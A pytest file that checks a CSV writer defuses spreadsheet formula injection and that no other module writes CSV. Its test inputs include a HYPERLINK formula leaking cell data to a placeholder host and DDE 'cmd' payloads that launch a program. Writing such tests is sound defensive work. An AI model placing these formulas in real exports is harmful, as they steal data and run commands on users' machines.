"""CSV is written in one place, and no cell of it is a formula."""

import ast
import csv
import io
from pathlib import Path

import pytest

from riskplatform.kernel.csv_writing import csv_text

ROOT = Path(__file__).parents[3]
WRITERS = frozenset({"csv.writer", "csv.DictWriter", "pyarrow.csv", "pa.csv"})
WRITER = Path("riskplatform", "kernel", "csv_writing.py")


def cells(*values: object) -> list[str]:
    """Write one row and read it back."""
    return next(csv.reader(io.StringIO(csv_text([values]), newline="")))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://a.b/?x="&A1,"Open")',
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "-",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-87.6\n=1+1",
        "+1,2",
        "--1",
    ],
)
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert cells(text, "next") == [f"'{text}", "next"]


@pytest.mark.parametrize("number", ["-87.6", "+1", "-1e-07", "-.5", "+12."])
def test_a_number_stays_a_number(number: str) -> None:
    assert cells(number, float(number)) == [number, str(float(number))]


@pytest.mark.parametrize("text", ["", "a=b", "it's", 'say "yes", twice', "a\nb", "'=1"])
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert cells(text) == [text]


def test_nothing_else_writes_csv() -> None:
    writers = [
        path.relative_to(ROOT)
        for package in ("riskplatform", "perf", "analytics", "scoring")
        for path in sorted((ROOT / package).rglob("*.py"))
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute) and ast.unparse(node) in WRITERS
    ]
    assert writers == [WRITER]
